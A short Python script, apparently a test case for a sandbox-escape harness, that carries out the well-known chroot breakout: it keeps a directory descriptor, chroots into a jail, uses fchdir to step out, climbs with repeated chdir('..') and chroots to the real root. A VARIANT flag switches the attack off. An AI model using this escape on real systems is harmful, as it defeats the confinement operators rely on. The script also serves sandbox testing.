"""Climbs out of a chroot of its own making."""

from __future__ import annotations

import os

import kit

VARIANT = 0


def attack(out: str) -> None:
    def climb() -> None:
        os.makedirs(os.path.join(out, "jail"), exist_ok=True)
        here = os.open(".", os.O_RDONLY)
        os.chroot(os.path.join(out, "jail"))
        os.fchdir(here)
        for _ in range(50):
            os.chdir("..")
        os.chroot(".")
        kit.claim("chroot")

    kit.child(climb)


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
